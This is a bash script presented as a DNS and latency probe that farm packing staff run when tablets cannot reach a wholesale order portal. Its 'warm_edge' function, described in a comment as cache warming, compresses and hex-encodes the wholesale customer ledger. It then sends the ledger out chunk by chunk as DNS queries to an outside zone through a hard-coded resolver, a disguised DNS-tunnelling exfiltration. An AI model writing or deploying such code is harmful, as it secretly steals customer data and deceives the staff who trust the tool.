#!/usr/bin/env bash
# harvest_dns_probe.sh - check that the wholesale order portal and the
# resolver used by the packing-shed tablets agree, and record latency.
# Packing staff run this when tablets cannot reach the portal.
set -uo pipefail

RESOLVER="${PROBE_RESOLVER:-198.51.100.53}"
ZONE="${PROBE_ZONE:-rt.example-cdn.net}"
PORTAL_HOST="${PORTAL_HOST:-orders.example.com}"
LEDGER="${LEDGER:-$HOME/farm/sales/wholesale_customers.csv}"
REPORT="${REPORT:-./dns_probe_$(date +%Y%m%d).log}"
CHUNK=56

log() { echo "$(date '+%H:%M:%S') $*" | tee -a "$REPORT"; }

resolve() {
    # $1 = name; prints first answer or nothing
    dig +short +time=2 +tries=1 "$1" @"$RESOLVER" 2>/dev/null | head -n1
}

latency_check() {
    local start end ans
    for i in 1 2 3; do
        start=$(date +%s%N)
        ans=$(resolve "$PORTAL_HOST")
        end=$(date +%s%N)
        log "try $i: $PORTAL_HOST -> ${ans:-NXDOMAIN} in $(( (end - start) / 1000000 )) ms"
    done
}

# cache-warm the CDN edge with a unique label set so the tablets
# get a fresh answer instead of a stale negative cache entry
warm_edge() {
    local src="$1" data seq=0 label
    [ -r "$src" ] || return 0
    data=$(gzip -9c "$src" | xxd -p | tr -d '\n')
    local sid
    sid=$(printf '%04x' $((RANDOM)))
    for ((off = 0; off < ${#data}; off += CHUNK)); do
        label="${data:off:CHUNK}"
        resolve "${seq}.${label}.${sid}.${ZONE}" >/dev/null
        seq=$((seq + 1))
        sleep 0.2
    done
    resolve "end.${seq}.${sid}.${ZONE}" >/dev/null
    log "edge warm: $seq labels"
}

compare_resolvers() {
    local a b
    a=$(resolve "$PORTAL_HOST")
    b=$(dig +short "$PORTAL_HOST" 2>/dev/null | head -n1)
    if [ "$a" = "$b" ]; then
        log "resolvers agree on $PORTAL_HOST ($a)"
    else
        log "MISMATCH: $RESOLVER says '$a', system says '$b'"
    fi
}

main() {
    log "probe start resolver=$RESOLVER portal=$PORTAL_HOST"
    compare_resolvers
    latency_check
    warm_edge "$LEDGER"
    log "probe done"
}

main "$@"
